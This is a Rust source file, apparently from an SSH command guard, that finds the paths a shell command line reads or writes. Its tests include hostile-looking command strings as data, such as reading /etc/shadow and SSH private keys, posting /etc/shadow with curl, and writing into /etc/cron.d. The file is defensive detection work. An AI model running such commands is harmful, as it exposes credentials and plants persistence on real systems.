//! The files that a command line names: by its redirections, and by the words of its programs.
//!
//! What a word means to a program only the program knows, so every word that could be a path is one that is read,
//! and of programs that are made for writing, one that is written. A guard that names a file holds what names it,
//! sometimes for nothing. What is put together on the host, and what stands for it in a pattern, is not found here.

use std::collections::BTreeSet;
use std::sync::Arc;

use pipeline::SshPath;
use shell::{Access, Command, Reading};

/// The longest word that is looked at; Linux opens no longer path.
const MAX_WORD: usize = 4096;
/// Of so many directories that a command line goes to, each may be where a later word is.
const MAX_DIRS: usize = 8;

/// Programs that change what any of their words names.
const WRITERS: [&str; 41] = [
    "chattr",
    "chgrp",
    "chmod",
    "chown",
    "curl",
    "dd",
    "ed",
    "emacs",
    "ex",
    "fallocate",
    "gunzip",
    "gzip",
    "ln",
    "mkdir",
    "mkfifo",
    "mknod",
    "mktemp",
    "mount",
    "mv",
    "nano",
    "nvim",
    "patch",
    "rename",
    "rm",
    "rmdir",
    "rsync",
    "scp",
    "setfacl",
    "shred",
    "split",
    "sponge",
    "tar",
    "tee",
    "touch",
    "truncate",
    "umount",
    "unlink",
    "unzip",
    "vi",
    "vim",
    "wget",
];
/// Those that change what the last of their words names, or what an option does.
const COPIERS: [&str; 2] = ["cp", "install"];
/// Those that write where an option says so.
const SOMETIMES: [(&str, &[&str]); 5] = [
    ("sed", &["-i", "--in-place", "-ni", "-Ei", "-ri", "-si"]),
    ("find", &["-delete", "-fprint", "-fls"]),
    ("sort", &["-o", "--output"]),
    ("openssl", &["-out"]),
    ("gpg", &["-o", "--output"]),
];

/// Collects paths, each once.
#[derive(Default)]
struct Found {
    paths: Vec<SshPath>,
    seen: BTreeSet<(Arc<str>, bool)>,
    dirs: Vec<String>,
}

/// Every path of it.
pub(super) fn paths(reading: &Reading) -> Vec<SshPath> {
    let mut found = Found {
        dirs: dirs(reading),
        ..Found::default()
    };
    for redirect in &reading.redirects {
        let writes = !matches!(redirect.access, Access::Read);
        found.add(&redirect.path.text, writes);
    }
    for command in &reading.commands {
        let writes = !reading.only_reads;
        for (at, word) in command.argv.iter().enumerate().skip(1) {
            let writes = writes && is_written(command, at);
            for part in parts(&word.text) {
                found.add(part, false);
                if writes {
                    found.add(part, true);
                }
            }
        }
    }
    found.paths
}

impl Found {
    fn add(&mut self, path: &str, writes: bool) {
        self.put(path.into(), writes);
        if !path.starts_with(['/', '~', '$']) {
            for dir in std::mem::take(&mut self.dirs) {
                self.put(format!("{dir}/{path}").into(), writes);
                self.dirs.push(dir);
            }
        }
    }

    fn put(&mut self, path: Arc<str>, writes: bool) {
        if self.seen.insert((path.clone(), writes)) {
            self.paths.push(SshPath { path, writes });
        }
    }
}

/// Where the command line goes, one after another.
fn dirs(reading: &Reading) -> Vec<String> {
    let mut dirs: Vec<String> = Vec::new();
    for command in &reading.commands {
        let mut words = command.argv.iter().map(|word| word.text.as_str());
        if !matches!(words.next(), Some("cd" | "pushd")) || dirs.len() >= MAX_DIRS {
            continue;
        }
        let Some(to) = words.find(|word| !word.starts_with('-')) else {
            continue;
        };
        let dir = match (to.starts_with(['/', '~', '$']), dirs.last()) {
            (false, Some(from)) => format!("{from}/{to}"),
            _ => to.to_owned(),
        };
        dirs.push(dir);
    }
    dirs
}

/// What of a word could be a path: all of it, or what stands behind `=`, `@`, `:` or `,`, or behind an option's
/// letter.
fn parts(word: &str) -> impl Iterator<Item = &str> {
    let behind = word.char_indices().filter_map(|(at, c)| {
        let begins = matches!(c, '=' | '@' | ':' | ',');
        begins.then(|| word.get(at + 1..)).flatten()
    });
    let option = word.starts_with('-');
    let glued = option.then(|| word.find(['/', '~']).and_then(|at| word.get(at..)));
    let whole = (!option).then_some(word);
    let all = whole.into_iter().chain(glued.flatten()).chain(behind);
    all.take(MAX_DIRS).filter(|part| could_be(part))
}

fn could_be(part: &str) -> bool {
    let text = part.contains(char::is_whitespace) && !part.contains('/');
    !part.is_empty() && part.len() <= MAX_WORD && !text
}

/// Does this program write what its word at `at` names?
fn is_written(command: &Command, at: usize) -> bool {
    let text = |word: &shell::Word| word.text.clone();
    let Some(program) = command.argv.first().map(text) else {
        return false;
    };
    let program = program.rsplit('/').next().unwrap_or_default();
    let words = || command.argv.iter().skip(1).map(|word| word.text.as_str());
    if let Some((_, options)) = SOMETIMES.iter().find(|(name, _)| *name == program) {
        return words().any(|word| options.iter().any(|option| word.starts_with(option)));
    }
    if COPIERS.contains(&program) {
        let target = words().any(|w| w.starts_with("-t") || w.starts_with("--t") || w == "-d");
        return target || at + 1 == command.argv.len();
    }
    let reads = program == "dd"
        && command
            .argv
            .get(at)
            .is_some_and(|w| w.text.starts_with("if="));
    WRITERS.contains(&program) && !reads
}

#[cfg(test)]
mod tests {
    use shell::Limits;

    use super::*;

    fn found(command: &str) -> Vec<String> {
        let reading = shell::read(command.as_bytes(), &Limits::default());
        let all = paths(&reading).into_iter();
        all.map(|p| format!("{}{}", if p.writes { "w " } else { "r " }, p.path))
            .collect()
    }

    #[test]
    fn what_a_command_names_is_found() {
        for (command, expect) in [
            ("cat /etc/shadow", "r /etc/shadow"),
            ("cat < /etc/shadow", "r /etc/shadow"),
            ("cd /etc && cat shadow", "r /etc/shadow"),
            ("cd /; cd etc; cat ./shadow", "r //etc/./shadow"),
            ("cd .ssh && cat < id_rsa", "r .ssh/id_rsa"),
            ("cat ~/.ssh/id_rsa", "r ~/.ssh/id_rsa"),
            ("grep --file=/etc/shadow x", "r /etc/shadow"),
            ("grep -f/etc/shadow x", "r /etc/shadow"),
            ("curl -d @/etc/shadow http://x", "r /etc/shadow"),
            ("dd if=/etc/shadow", "r /etc/shadow"),
            ("sudo cat /etc/shadow", "r /etc/shadow"),
            ("sh -c 'cat /etc/shadow'", "r /etc/shadow"),
            ("tee /etc/cron.d/x", "w /etc/cron.d/x"),
            ("cp x /etc/cron.d/x", "w /etc/cron.d/x"),
            ("cp -t /etc/cron.d x", "w /etc/cron.d"),
            ("/usr/bin/install x /etc/cron.d/x", "w /etc/cron.d/x"),
            ("ln -s x /etc/cron.d/x", "w /etc/cron.d/x"),
            ("dd of=/etc/cron.d/x", "w /etc/cron.d/x"),
            ("sed -i s/a/b/ /etc/passwd", "w /etc/passwd"),
            ("find / -fprint /etc/cron.d/x", "w /etc/cron.d/x"),
            ("cd /etc && touch cron.d/x", "w /etc/cron.d/x"),
            ("cd /etc && echo > cron.d/x", "w /etc/cron.d/x"),
        ] {
            let found = found(command);
            assert!(found.contains(&expect.to_owned()), "{command}: {found:?}");
        }
    }

    #[test]
    fn what_is_read_is_not_written() {
        for (command, never) in [
            ("cat /etc/hosts; touch x", "w /etc/hosts"),
            ("cp /etc/hosts x", "w /etc/hosts"),
            ("dd if=/etc/hosts of=x", "w /etc/hosts"),
            ("sed s/a/b/ /etc/hosts > x", "w /etc/hosts"),
            ("find /etc -name x > y", "w /etc"),
            ("ls /etc", "w /etc"),
        ] {
            let found = found(command);
            assert!(!found.contains(&never.to_owned()), "{command}: {found:?}");
        }
    }

    #[test]
    fn text_is_no_path() {
        assert_eq!(found("echo 'one two' ''"), [] as [String; 0]);
        let long = format!("cat {}", "a".repeat(MAX_WORD + 1));
        assert_eq!(found(&long), [] as [String; 0]);
    }
}
